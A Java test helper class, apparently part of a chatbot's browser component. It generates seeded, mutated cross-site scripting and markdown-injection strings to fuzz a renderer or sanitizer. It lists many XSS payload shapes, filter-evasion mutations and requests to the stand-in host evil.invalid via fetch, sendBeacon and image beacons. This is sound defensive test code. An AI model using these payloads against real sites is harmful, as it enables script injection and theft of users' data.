package dev.deskhand.bot.browser;

import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Random;

/**
 * Texts that try to become markup, script or a request: a list of the usual ways, each changed at random by a seed. A
 * script that runs calls {@code alert}; a request that leaves goes to the host {@code evil.invalid}.
 */
final class HostileTexts {

    private static final List<String> SCRIPTS = List.of(
            "alert(N)",
            "alert`N`",
            "top['al'+'ert'](N)",
            "(0,eval)('alert(N)')",
            "setTimeout('alert(N)')",
            "fetch('//evil.invalid/N')",
            "new Image().src='//evil.invalid/N'",
            "import('//evil.invalid/N.js')",
            "navigator.sendBeacon('//evil.invalid/N')");

    private static final List<String> SHAPES = List.of(
            "<script>JS</script>",
            "<script src=//evil.invalid/N.js></script>",
            "</p></div><script>JS</script>",
            "<img src=x onerror=\"JS\">",
            "<img src=//evil.invalid/N.png>",
            "<img/src=`x`onerror=JS>",
            "<svg onload=\"JS\"></svg>",
            "<svg><script>JS</script></svg>",
            "<svg><a xlink:href=\"javascript:JS\"><text x=20 y=20>x</text></a></svg>",
            "<svg><animate onbegin=\"JS\" attributeName=x dur=1s>",
            "<math><mtext><table><mglyph><style><img src=x onerror=\"JS\">",
            "<iframe src=\"javascript:JS\"></iframe>",
            "<iframe srcdoc=\"<script>JS</script>\"></iframe>",
            "<object data=\"javascript:JS\"></object>",
            "<embed src=\"//evil.invalid/N\">",
            "<base href=\"//evil.invalid/N/\">",
            "<link rel=stylesheet href=//evil.invalid/N.css>",
            "<meta http-equiv=refresh content=\"0;url=//evil.invalid/N\">",
            "<style>@import '//evil.invalid/N.css'; * { background: url(//evil.invalid/N) }</style>",
            "<form action=\"javascript:JS\"><button autofocus onfocus=\"JS\">x</button></form>",
            "<input autofocus onfocus=\"JS\">",
            "<details open ontoggle=\"JS\">x</details>",
            "<video><source onerror=\"JS\"></video>",
            "<audio src=//evil.invalid/N.mp3 autoplay></audio>",
            "<body onload=\"JS\">",
            "<template><img src=x onerror=\"JS\"></template>",
            "<noscript><p title=\"</noscript><img src=x onerror='JS'>\">",
            "<a href=\"javascript:JS\">x</a>",
            "\"><img src=x onerror=\"JS\">",
            "' onmouseover='JS' x='",
            "\" autofocus onfocus=\"JS\" x=\"",
            "`${JS}`",
            "${JS}",
            "{{constructor.constructor('JS')()}}",
            "javascript:JS",
            "data:text/html,<script>JS</script>",
            "[x](javascript:JS)",
            "[x](<javascript:JS>)",
            "[x](data:text/html;base64,PHNjcmlwdD5hbGVydChOKTwvc2NyaXB0Pg==)",
            "[x](vbscript:JS)",
            "[x](//evil.invalid/N)",
            "[x](https://evil.invalid/N)",
            "[x](https://verdly.example@evil.invalid/N)",
            "[x][1]\n\n[1]: javascript:JS",
            "![x](https://evil.invalid/N.png)",
            "![x](javascript:JS)",
            "![](x\" onerror=\"JS)",
            "[![x](https://evil.invalid/N.png)](javascript:JS)",
            "<https://evil.invalid/N>",
            "<javascript:JS>",
            "**<img src=x onerror=\"JS\">**",
            "`<img src=x onerror=\"JS\">`",
            "```\n</code></pre><script>JS</script>\n```",
            "| <img src=x onerror=\"JS\"> | [x](javascript:JS) |\n|---|---|\n| <svg onload=\"JS\"> | x |",
            "1. <img src=x onerror=\"JS\">\n   - <script>JS</script>",
            "# <img src=x onerror=\"JS\">",
            "__proto__",
            "constructor",
            "toString",
            "<!--<img src=\"--><img src=x onerror=JS//\">",
            "&lt;script&gt;JS&lt;/script&gt;",
            "&#106;avascript&colon;JS",
            "<scr<script>ipt>JS</scr</script>ipt>");

    private final Random random;

    HostileTexts(long seed) {
        random = new Random(seed);
    }

    /** So many texts, each shape in turn, and no two alike. */
    List<String> next(int count) {
        List<String> texts = new ArrayList<>();
        for (int number = 0; number < count; number++) {
            String shape = SHAPES.get(number % SHAPES.size());
            String script = SCRIPTS.get(random.nextInt(SCRIPTS.size()));
            String text = shape.replace("JS", script).replace("N", String.valueOf(number));
            texts.add(number < SHAPES.size() ? text : changed(text));
        }
        return texts;
    }

    private String changed(String text) {
        String result = text;
        for (int times = 1 + random.nextInt(3); times > 0; times--) {
            result = changedOnce(result);
        }
        return result;
    }

    private String changedOnce(String text) {
        int at = text.isEmpty() ? 0 : random.nextInt(text.length());
        switch (random.nextInt(9)) {
            case 0:
                return text.replaceFirst("(?i)script", "ScRiPt");
            case 1:
                return text.replaceFirst(" ", pick("\t", "\n", "/", "\u00a0", "\u2028"));
            case 2:
                return text.substring(0, at)
                        + pick("\u200b", "\u202e", "\ufeff", "\ud83d\ude00", "é")
                        + text.substring(at);
            case 3:
                return text.replaceFirst(
                        "javascript:", pick("java\tscript:", "JAVASCRIPT:", "&#x6A;avascript:", " javascript:"));
            case 4:
                return pick("<b>", "<!--", "]]>", "*", "_", "> ", "- ", "**", "`", "</textarea>", "</title>") + text;
            case 5:
                return text.replace('"', '\'');
            case 6:
                return text.replace("<", pick("<", "&lt;", "\\<", "%3C", "\uff1c", "<<"));
            case 7:
                return text.toUpperCase(Locale.ROOT).replace("ALERT", "alert");
            default:
                return text.substring(0, at) + text.substring(at).replaceFirst(">", pick(" >", "/>", ""));
        }
    }

    private String pick(String... choices) {
        return choices[random.nextInt(choices.length)];
    }
}
